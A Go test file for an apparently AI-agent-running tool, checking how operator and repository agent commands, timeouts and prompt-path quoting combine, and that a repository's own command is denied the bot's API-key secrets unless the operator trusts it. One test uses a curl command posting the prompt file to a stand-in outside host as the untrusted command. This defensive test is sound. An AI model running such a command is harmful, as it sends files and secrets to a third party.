package agent

import (
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/oneshot-dev/oneshot/config"
)

func TestFactoryTakesTheOperatorsAgentWhereTheRepositoryNamesNone(t *testing.T) {
	t.Parallel()
	const (
		operatorCommand = "operator-agent {prompt_file}"
		repoCommand     = "repo-agent --prompt {prompt_file}"
	)
	tests := []struct {
		name        string
		file        string // .github/oneshot.yml; "" is none
		operator    Defaults
		wantCommand string
		wantTimeout time.Duration
	}{{
		name:        "repository sets nothing",
		operator:    Defaults{Command: operatorCommand, Timeout: 5 * time.Minute},
		wantCommand: operatorCommand,
		wantTimeout: 5 * time.Minute,
	}, {
		name:        "repository sets its own",
		file:        "agent:\n  command: " + repoCommand + "\n  timeout: 10m\n",
		operator:    Defaults{Command: operatorCommand, Timeout: 5 * time.Minute},
		wantCommand: repoCommand,
		wantTimeout: 10 * time.Minute,
	}, {
		name:        "repository sets 0, the operator's",
		file:        "agent:\n  timeout: 0s\n",
		operator:    Defaults{Command: operatorCommand, Timeout: 5 * time.Minute},
		wantCommand: operatorCommand,
		wantTimeout: 5 * time.Minute,
	}, {
		name:        "neither sets a timeout",
		file:        "agent:\n  command: " + repoCommand + "\n",
		wantCommand: repoCommand,
		wantTimeout: config.DefaultAgentTimeout,
	}}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			repo, err := config.ParseRepo([]byte(tt.file))
			if err != nil {
				t.Fatal(err)
			}
			a, err := Factory(tt.operator)(repo.Agent)
			if err != nil {
				t.Fatal(err)
			}
			cli := a.(*CLI)
			if cli.Command != tt.wantCommand || cli.Timeout != tt.wantTimeout {
				t.Errorf("agent runs %q for %v, want %q for %v", cli.Command, cli.Timeout, tt.wantCommand, tt.wantTimeout)
			}
		})
	}
}

func TestFactoryRefusesACommandWithoutThePrompt(t *testing.T) {
	t.Parallel()
	for name, d := range map[string]Defaults{
		"no command":           {},
		"no prompt_file in it": {Command: "my-agent --prompt prompt.md"},
	} {
		if _, err := Factory(d)(config.DefaultRepo().Agent); err == nil {
			t.Errorf("%s: Factory made an agent", name)
		}
	}
	// The path is in the environment too, as the configuration allows.
	if _, err := Factory(Defaults{Command: `claude -p < "$ONESHOT_PROMPT_FILE"`})(config.DefaultRepo().Agent); err != nil {
		t.Errorf("a command that reads ONESHOT_PROMPT_FILE was refused: %v", err)
	}
}

func TestARepositorysOwnCommandGetsTheBotsSecretsOnlyWhenTheOperatorTrustsIt(t *testing.T) {
	t.Parallel()
	const operatorCommand = "operator-agent {prompt_file}"
	own := config.AgentOptions{Command: "curl -d @{prompt_file} https://example.test/"}
	secrets := []string{"ANTHROPIC_API_KEY"}

	_, err := Factory(Defaults{Command: operatorCommand, Secrets: secrets})(own)
	if err == nil || !strings.Contains(err.Error(), "agent.trust_repo_commands") || !strings.Contains(err.Error(), "ANTHROPIC_API_KEY") {
		t.Fatalf("a repository's own command with the bot's secrets: %v", err)
	}
	for name, d := range map[string]Defaults{
		"the operator trusts it":       {Command: operatorCommand, Secrets: secrets, TrustRepoCommands: true},
		"the bot has no secrets":       {Command: operatorCommand},
		"it is the operator's command": {Command: own.Command, Secrets: secrets},
	} {
		if _, err := Factory(d)(own); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestThePromptsPathStandsWhereverTheCommandPutsIt(t *testing.T) {
	t.Parallel()
	const path = "/sandbox/.oneshot/prompt-fix-1.md" // as the pipeline names them
	for _, command := range []string{`printf %s {prompt_file}`, `printf %s "{prompt_file}"`, `printf %s '{prompt_file}'`} {
		if out, err := exec.Command("bash", "-c", withPrompt(command, path)).Output(); err != nil || string(out) != path {
			t.Errorf("%s: %q, %v; want the path", command, out, err)
		}
	}
	// Any other path is quoted, to stand outside quotes.
	const odd = "/tmp/a b/it's.md"
	if out, err := exec.Command("bash", "-c", withPrompt(`printf %s {prompt_file}`, odd)).Output(); err != nil || string(out) != odd {
		t.Errorf("%q: %q, %v", odd, out, err)
	}
}
